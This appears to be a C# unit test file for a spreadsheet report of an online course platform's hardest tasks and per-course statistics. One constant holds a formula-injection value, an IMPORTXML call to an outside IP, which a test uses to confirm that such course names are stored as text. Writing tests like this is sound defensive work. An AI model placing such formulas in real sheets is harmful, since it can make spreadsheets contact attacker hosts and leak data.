using System.Globalization;
using EduEtl.Days;
using EduEtl.Sandbox.Sheets;
using static EduEtl.Tests.Reporting.PersonsRequests;

namespace EduEtl.Tests.Reporting;

/// <summary>The tab of one day's hardest tasks and courses.</summary>
public sealed class TheTasksAreListed : ReportingFixture
{
    private const string Formula = "=IMPORTXML(\"http://203.0.113.9\",\"//a\")";

    [Fact]
    public async Task The_hardest_come_first_beside_the_courses_and_the_day_is_said()
    {
        await ReportAsync(Tasks(3));

        TabState tab = Tab();
        Assert.Equal(("Hardest tasks", "By course"), (tab.Cell("A1")!.Text, tab.Cell("I1")!.Text));
        Assert.Equal(
            ("Day", 45567.0, "2024-10-02"),
            (tab.Cell("A2")!.Text, tab.Cell("B2")!.Value, tab.Cell("B2")!.Text)
        );
        Assert.Equal(
            "Hardest first, by the upper end of the 95% interval (Wilson) of the success rate, so that few submits never win; "
                + "from 5 students on. Shown: 3 of 7.",
            tab.Cell("A3")!.Text
        );
        Assert.Equal(
            ["Course", "Task", "Attempts", "Students", "Submits", "Successful submits", "Success rate"],
            Row(tab, 4)
        );
        Assert.Equal(["Org+A+B", Digits(1), "1,001", "31", "20", "1", "5.00%"], Row(tab, 5));
        Assert.Equal(["Org+A+B", Digits(3), "1,003", "33", "20", "3", "15.00%"], Row(tab, 7));
        Assert.Equal(["Org+A+B", "9,000", "80", "7", "100", "50", "50.00%"], Row(tab, 5, from: 8));
        Assert.Equal(["Course not stated", "12", "2", "0", "0", "0"], Row(tab, 6, from: 8));
        Assert.Equal(4, tab.FrozenRows);
    }

    [Fact]
    public async Task A_shorter_list_leaves_nothing_of_the_longer_one()
    {
        await ReportAsync(Tasks(250));
        Assert.Equal(Digits(200), Tab().Cell("B204")!.Text);
        Assert.Null(Tab().Cell("B205"));

        await ReportAsync(Tasks(2));

        Assert.Equal(2, Tab().Cells.Count(cell => cell is { Row: > 3, Column: 1, Value: not null }));
        Assert.Equal(4, ApiCalls);
    }

    [Fact]
    public async Task What_a_person_keeps_below_and_to_the_right_stays()
    {
        await ReportAsync(Tasks(3));
        int id = Tab().Id;
        await PrepareAsync(
            Text(id, 204, 0, "below"),
            Text(id, 4, 15, "right"),
            Note(id, 4, 0, "ask Vera"),
            Chart(id, 5)
        );
        TabState before = Tab();

        await ReportAsync(Tasks(4));

        Assert.Equal(("below", "right"), (Tab().Cell("A205")!.Text, Tab().Cell("P5")!.Text));
        Assert.Equal("ask Vera", Tab().Cell("A5")!.Note);
        Assert.Equal(5, Assert.Single(Tab().Charts).Id);
        Assert.Equal(before.ColumnWidths, Tab().ColumnWidths);
    }

    [Fact]
    public async Task A_name_that_looks_like_a_formula_is_text()
    {
        DayReport report = Tasks(1);
        await ReportAsync(
            report with
            {
                Tasks = [report.Tasks[0] with { Course = Formula }],
                Courses = [report.Courses[0] with { Course = Formula }],
            }
        );

        Assert.All(
            ["A5", "I5"],
            a1 => Assert.Equal((null, Formula), (Tab().Cell(a1)!.Formula, (string?)Tab().Cell(a1)!.Value))
        );
    }

    [Fact]
    public async Task A_task_leads_to_the_platform_by_the_look_of_its_cell_and_not_by_a_formula()
    {
        DayReport report = Tasks(3);
        TaskStatistics[] tasks = [.. report.Tasks];
        tasks[1] = tasks[1] with { Host = "lms.example/x" };
        await ReportAsync(report with { Tasks = tasks });

        Assert.Equal($"https://lms.example/courses/course-v1:Org+A+B/jump_to_id/{Block(1)}", Link("B5"));
        Assert.Null(Link("B6"));
        Assert.Equal((null, Digits(1)), (Tab().Cell("B5")!.Formula, (string?)Tab().Cell("B5")!.Value));

        await ReportAsync(report with { Tasks = [tasks[1]] });
        Assert.Null(Link("B5"));
    }

    [Fact]
    public async Task A_tests_first_hour_is_marked_until_a_day_takes_its_place()
    {
        DayReport report = Tasks(1);
        await ReportAsync(report with { Run = Run with { Window = new(Run.Window.Day, TestMode: true) } });
        Assert.StartsWith("TEST MODE", Tab().Cell("C2")!.Text, StringComparison.Ordinal);
        Assert.Null(Tab().Cell("B5")?.Value);

        await ReportAsync(report);
        Assert.DoesNotContain(Tab().Cells, cell => cell.Text.Contains("TEST", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_day_without_attempts_empties_the_lists()
    {
        await ReportAsync(Tasks(3));
        await ReportAsync(Tasks(0) with { Courses = [] });

        Assert.DoesNotContain(Tab().Cells, cell => cell is { Row: > 3, Value: not null });
    }

    [Fact]
    public async Task In_Russian_the_heads_change_and_the_title_does_not()
    {
        CultureInfo.CurrentUICulture = CultureInfo.CurrentCulture = new CultureInfo("ru-RU");
        await ReportAsync(Tasks(3));

        Assert.Equal("Самые трудные задания", Tab().Cell("A1")!.Text);
        Assert.Equal("Доля успешных отправок", Tab().Cell("G4")!.Text);
    }

    private TabState Tab() => Tab("EduEtl tasks");

    private static IEnumerable<string> Row(TabState tab, int number, int from = 0) =>
        tab
            .Cells.Where(cell => cell.Row == number - 1 && cell.Column >= from && cell.Column < from + 7)
            .Where(cell => cell.Text.Length > 0)
            .Select(cell => cell.Text);

    private static string Block(int number) => $"{number:x8}{0:x24}";

    private static string Digits(int number) => $"{number:x8}";

    private string? Link(string a1) => (string?)Tab().Cell(a1)!.Format["textFormat"]?["link"]?["uri"];

    private static DayReport Tasks(int count) =>
        Report(Run, Totals, Day) with
        {
            Tasks =
            [
                .. Enumerable
                    .Range(1, count)
                    .Select(i => new TaskStatistics("Org+A+B", Block(i), 1000 + i, 30 + i, 20, Math.Min(20, i))
                    {
                        Host = "lms.example",
                    }),
            ],
            Courses = [new("Org+A+B", 7, new(9000, 80, 8900, 100, 50)), new(null, 0, new(12, 2, 12, 0, 0))],
        };
}
